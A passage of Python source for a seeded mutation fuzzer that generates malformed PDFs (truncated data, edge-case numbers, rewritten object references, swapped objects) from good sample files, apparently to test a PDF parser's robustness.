    return chance.choice([data[:at], data[at:], data[:at] + data[chance.randrange(at, len(data)) :], data + data[at:]])


def _numbers_changed(data: bytes, chance: random.Random) -> bytes:
    return _some(
        _NUMBER, data, chance, lambda found: chance.choice([b"0", b"-1", b"4294967296", b"7", found.group() * 2])
    )


def _references_changed(data: bytes, chance: random.Random) -> bytes:
    most = max((int(each) for each in _REFERENCE.findall(data)), default=1)
    return _some(_REFERENCE, data, chance, lambda found: b"%d 0 R" % chance.randint(0, most + 1))


def _objects_swapped(data: bytes, chance: random.Random) -> bytes:
    bodies = [body for _, body in _OBJECT.findall(data)]
    return _some(_OBJECT, data, chance, lambda found: b"%s 0 obj\n%sendobj" % (found.group(1), chance.choice(bodies)))


def _some(
    pattern: re.Pattern[bytes], data: bytes, chance: random.Random, new: Callable[[re.Match[bytes]], bytes]
) -> bytes:
    share = chance.choice([0.005, 0.02, 0.1])
    return pattern.sub(lambda found: new(found) if chance.random() < share else found.group(), data)


def opened_up(data: bytes) -> bytes:
    """A good file without object streams and packing, so that mutations meet its objects."""
    out = BytesIO()
    with Pdf.open(BytesIO(data)) as pdf:
        pdf.save(
            out,
            static_id=True,
            object_stream_mode=ObjectStreamMode.disable,
            compress_streams=False,
            stream_decode_level=StreamDecodeLevel.generalized,
        )
    return out.getvalue()


def mutations(count: int) -> Iterator[bytes]:
    """So many, the same each time."""
    chance = random.Random("hostile PDFs")
    sources = [
        good.tagged(),
        opened_up(good.tagged()),
        good.untagged(),
        opened_up(good.saved(field_of(good.blank()))),
        opened_up(
            good.saved(
                layered(b"/OC /L1 BDC " + good.shown("Off") + b"EMC /OC /L2 BDC " + good.shown("On") + b"EMC", "Off")
            )
        ),
    ]
    for _ in range(count):
        yield mutation(chance.choice(sources), chance)
